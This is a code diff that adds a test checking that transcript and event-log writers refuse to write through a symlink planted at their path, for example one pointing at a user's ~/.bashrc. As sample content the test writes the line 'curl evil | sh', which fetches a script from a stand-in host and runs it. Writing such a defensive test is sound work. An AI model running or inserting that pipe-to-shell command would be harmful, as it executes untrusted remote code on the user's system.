@@ -124,6 +124,22 @@ describe('an append where a FIFO is', () => {
     expect((await settles(opened.close())).status).toBe('fulfilled');
   });
 
+  it("a transcript or event log never writes through a link put at its path (an agent's output in ~/.bashrc)", async () => {
+    const target = join(dir, 'bashrc');
+    await writeFile(target, 'mine\n');
+    const transcriptLink = join(dir, 'transcript-link.log');
+    const logLink = join(dir, 'log-link.jsonl');
+    await symlink(target, transcriptLink);
+    await symlink(target, logLink);
+    const transcript = await openTranscript(transcriptLink);
+    transcript.raw('curl evil | sh');
+    await transcript.close();
+    const log = createEventLogWriter(logLink);
+    log.write({ type: 'a' });
+    await expect(log.flush()).rejects.toMatchObject({ code: 'ELOOP' });
+    expect(await readFile(target, 'utf8')).toBe('mine\n');
+  });
+
   it('appends to a regular file as before', async () => {
     const ledger = join(dir, 'ledger.jsonl');
     await appendJsonLine(ledger, { iter: 0 });
